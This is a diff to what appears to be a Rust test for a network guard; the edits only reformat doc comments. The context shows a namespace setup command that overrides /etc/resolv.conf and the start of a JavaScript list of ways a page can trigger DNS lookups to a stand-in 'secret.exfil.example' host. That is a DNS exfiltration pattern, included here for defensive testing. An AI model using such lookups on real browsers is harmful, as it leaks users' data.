@@ -35,7 +35,9 @@ const PUBLIC: &str = "93.184.215.14";
 const ENTER: &str = "ip link set lo up && ip addr add 93.184.215.14/32 dev lo && mount --bind \"$0\" /etc/resolv.conf \
                      && exec \"$@\"";
 
-/// Whether this is the run in namespaces. Otherwise that run is made here, if the system allows it.
+/// Returns whether this is the run in namespaces.
+///
+/// Otherwise that run is made here, if the system allows it.
 fn inside() -> bool {
     if std::env::var_os(INSIDE).is_some() {
         return true;
@@ -163,7 +165,9 @@ async fn serve(address: &str, body: &'static str) -> u16 {
     port
 }
 
-/// Every way known by which a page may make a browser look a name up. The guard refuses port 81 before it would.
+/// Every way known by which a page may make a browser look a name up.
+///
+/// The guard refuses port 81 before it would.
 const WAYS: &str = r"
     const host = (name) => `${name}.secret.exfil.example`;
     const did = [];
